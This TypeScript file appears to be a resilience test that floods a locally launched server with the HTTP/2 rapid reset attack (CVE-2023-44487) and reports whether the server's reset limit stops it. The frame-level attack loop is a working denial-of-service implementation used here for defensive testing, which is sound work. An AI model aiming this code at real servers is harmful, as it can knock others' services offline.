/**
 * `npm run rapid-reset -- [--connections N] [--streams N] [--reset-limit N] [--reset same-packet|after-answer]`:
 * HTTP/2 rapid reset (CVE-2023-44487) against the reliability server. Each of `--connections`
 * connections (default 10) opens streams and resets them, 100 at a time, until the server sends
 * GOAWAY or closes, or `--streams` (20,000) were sent: each stream's RST_STREAM right behind its
 * HEADERS in the same write (`same-packet`, the default: node:http2 may drop such a stream before
 * it becomes a call), or, for 100 server streams asked for in one write, their resets once the
 * server has answered them all (`after-answer`: calls under way, which `http2ResetLimit` counts;
 * one round trip per 100). It records how many it sent, the GOAWAY's code and when it came, and
 * the server's CPU over the attack. `--reset-limit` sets `http2ResetLimit`'s
 * count (its 10 s window kept), to compare with a server that lets more through. Prints a
 * Markdown report; exits 1 if a connection outlasted its streams, a valid call failed after, or
 * the server held anything at rest that it did not hold before.
 */
import { create, toBinary } from "@bufbuild/protobuf"
import * as Effect from "effect/Effect"
import { Buffer } from "node:buffer"
import * as Net from "node:net"
import { loadavg } from "node:os"
import { parseArgs } from "node:util"
import { ServerStreamRequestSchema, TestService } from "../test/gen/connecteffect/test/v1/test_pb.js"
import { envelope } from "../test/support/rawHttp.js"
import { wholeNumber } from "./cli.js"
import * as F from "./h2Frames.js"
import { cpuMicros, mib } from "./processStats.js"
import { postHeaders } from "./rawH2.js"
import { serverProcess } from "./serverProcess.js"
import { soakServer } from "./soakRun.js"

const usage = "usage: npm run rapid-reset -- [--connections N] [--streams N] [--reset-limit N] [--reset same-packet|after-answer]"
const { values } = parseArgs({
  options: {
    connections: { type: "string", default: "10" },
    streams: { type: "string", default: "20000" },
    "reset-limit": { type: "string" },
    reset: { type: "string", default: "same-packet" }
  }
})
const connections = wholeNumber(usage, "connections", values.connections)
const maxStreams = wholeNumber(usage, "streams", values.streams)
const resetLimit = values["reset-limit"] === undefined ? undefined : wholeNumber(usage, "reset-limit", values["reset-limit"])
const resetAfterAnswer = values.reset === "after-answer"
if (!resetAfterAnswer && values.reset !== "same-packet") {
  console.error(`--reset must be same-packet or after-answer\n${usage}`)
  process.exit(2)
}

interface Attack {
  readonly sent: number
  readonly goaway: number | undefined
  readonly goawayMs: number | undefined
  readonly closedMs: number | undefined
}

const echo = postHeaders(`/${TestService.typeName}/Echo`, [["content-type", "application/proto"], ["connect-protocol-version", "1"]])
const serverStream = postHeaders(`/${TestService.typeName}/ServerStream`, [["content-type", "application/connect+proto"]])
const serverStreamRequest = envelope(0, toBinary(ServerStreamRequestSchema, create(ServerStreamRequestSchema, { text: "reset", count: 100, delayMs: 1000 })))

/** One attacking connection: HEADERS and RST_STREAM CANCEL for 100 streams at a time, until the server stops it. */
const attack = (port: number) =>
  new Promise<Attack>((resolve) => {
    let sent = 0
    let goaway: number | undefined
    let goawayMs: number | undefined
    let pending: Buffer = Buffer.alloc(0)
    // after-answer: the resets of the streams asked for, sent once this many more have been answered.
    let resets: Array<Buffer> = []
    let unanswered = 0
    const start = Date.now()
    const socket = Net.connect({ port, host: "127.0.0.1", noDelay: true }, () => {
      socket.write(Buffer.concat([F.preface, F.settings()]))
      send()
    })
    const send = () => {
      if (socket.destroyed || goaway !== undefined || sent >= maxStreams) return
      const frames: Array<Buffer> = []
      resets = []
      for (let i = 0; i < 100 && sent < maxStreams; i++, sent++) {
        const id = 2 * sent + 1
        if (resetAfterAnswer) {
          frames.push(F.headers(id, serverStream, false), F.data(id, serverStreamRequest, true))
          resets.push(F.rstStream(id, 0x8))
        } else {
          frames.push(F.headers(id, echo, false), F.rstStream(id, 0x8))
        }
      }
      unanswered = resets.length
      const drained = socket.write(Buffer.concat(frames))
      if (resetAfterAnswer) return
      if (drained) setImmediate(send)
      else socket.once("drain", send)
    }
    const answered = () => {
      if (--unanswered > 0) return
      if (socket.write(Buffer.concat(resets))) setImmediate(send)
      else socket.once("drain", send)
    }
    const finish = (closedMs: number | undefined) => {
      clearTimeout(bound)
      socket.destroy()
      resolve({ sent, goaway, goawayMs, closedMs })
    }
    // A server that lets every stream through is left the time to answer them, then let go.
    const bound = setTimeout(() => finish(undefined), 60_000)
    socket.on("error", () => {})
    socket.on("close", () => finish(Date.now() - start))
    socket.on("data", (chunk: Buffer) => {
      pending = pending.byteLength === 0 ? chunk : Buffer.concat([pending, chunk])
      const parsed = F.parseFrames(pending)
      pending = pending.subarray(pending.byteLength - parsed.rest)
      for (const frame of parsed.frames) {
        if (frame.type === F.frameType.settings && (frame.flags & F.flag.ack) === 0) socket.write(F.settingsAck())
        if (frame.type === F.frameType.headers && unanswered > 0) answered()
        if (frame.type === F.frameType.goaway && goaway === undefined) {
          goaway = frame.payload.readUInt32BE(4)
          goawayMs = Date.now() - start
        }
      }
    })
  })

const load = () => loadavg().map((n) => n.toFixed(2)).join(", ")
const startedAt = new Date()
const loadBefore = load()
const serve = resetLimit === undefined ? soakServer.serve : { ...soakServer.serve, http2ResetLimit: { resets: resetLimit, windowMs: 10_000 } }

const result = await Effect.runPromise(Effect.scoped(Effect.gen(function*() {
  const server = yield* serverProcess({ ...soakServer, serve })
  const before = yield* server.stats("settled")
  const cpuBefore = cpuMicros(server.pid)
  const started = Date.now()
  const attacks = yield* Effect.promise(() => Promise.all(Array.from({ length: connections }, () => attack(server.port))))
  const seconds = (Date.now() - started) / 1000
  // What the server still does for the streams it let in counts too.
  yield* Effect.sleep("2 seconds")
  const cpuMs = (cpuMicros(server.pid) - cpuBefore) / 1000
  const after = yield* server.stats("settled")
  return { before, after, attacks, seconds, cpuMs, output: server.output() }
})))

const codes: Record<number, string> = { 0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 11: "ENHANCE_YOUR_CALM" }
const sent = result.attacks.map((a) => a.sent)
const total = sent.reduce((sum, n) => sum + n, 0)
const goaways = new Map<string, number>()
for (const a of result.attacks) {
  const code = a.goaway === undefined ? "none" : codes[a.goaway] ?? `0x${a.goaway.toString(16)}`
  goaways.set(code, (goaways.get(code) ?? 0) + 1)
}
const failures: Array<string> = []
const unstopped = result.attacks.filter((a) => a.closedMs === undefined).length
if (unstopped > 0) failures.push(`${unstopped} connections were still open 60 s after they began`)
const { before, after } = result
for (const measure of ["callsInFlight", "http1Connections", "http2Sessions", "fibers"] as const) {
  if (after[measure] > before[measure]) failures.push(`at rest the server holds ${after[measure]} ${measure} (${before[measure]} before)`)
}
if (after.fds > before.fds) failures.push(`at rest the server holds ${after.fds} descriptors (${before.fds} before)`)
if (result.output.lines > 0) failures.push(`the server logged ${result.output.lines} lines; the last: ${result.output.tail.join(" | ")}`)

const goawayMs = result.attacks.flatMap((a) => a.goawayMs === undefined ? [] : [a.goawayMs])
console.log([
  `## Rapid reset: ${connections} connections, up to ${maxStreams} streams each`,
  "",
  `\`npm run rapid-reset -- ${process.argv.slice(2).join(" ")}\`, ${startedAt.toISOString()}, Node ${process.version}, ` +
  `http2ResetLimit ${resetLimit === undefined ? "default (500 in 10 s)" : `${resetLimit} in 10 s`}, ` +
  `each stream reset ${resetAfterAnswer ? "once answered" : "in the write of its HEADERS"}; load average ${loadBefore} before, ${load()} after.`,
  "",
  `- Streams opened and reset: ${total} in all, ${Math.min(...sent)} to ${Math.max(...sent)} a connection, in ${result.seconds.toFixed(1)} s.`,
  `- GOAWAY: ${[...goaways].map(([code, n]) => `${n} × ${code}`).join(", ")}` +
  (goawayMs.length === 0 ? "." : `, ${Math.min(...goawayMs)} to ${Math.max(...goawayMs)} ms after the connection opened.`),
  `- Server CPU over the attack and 2 s after it: ${result.cpuMs.toFixed(0)} ms (${(result.cpuMs * 1000 / Math.max(total, 1)).toFixed(1)} µs a stream sent).`,
  `- At rest, before → after: heap ${mib(before.heapUsedBytes)} → ${mib(after.heapUsedBytes)} MiB, descriptors ${before.fds} → ${after.fds}, ` +
  `calls ${before.callsInFlight} → ${after.callsInFlight}, sessions ${before.http2Sessions} → ${after.http2Sessions}, fibers ${before.fibers} → ${after.fibers}.`,
  "",
  ...(failures.length === 0 ? ["Passed."] : ["Failed:", ...failures.map((f) => `- ${f}`)])
].join("\n"))
process.exit(failures.length === 0 ? 0 : 1)
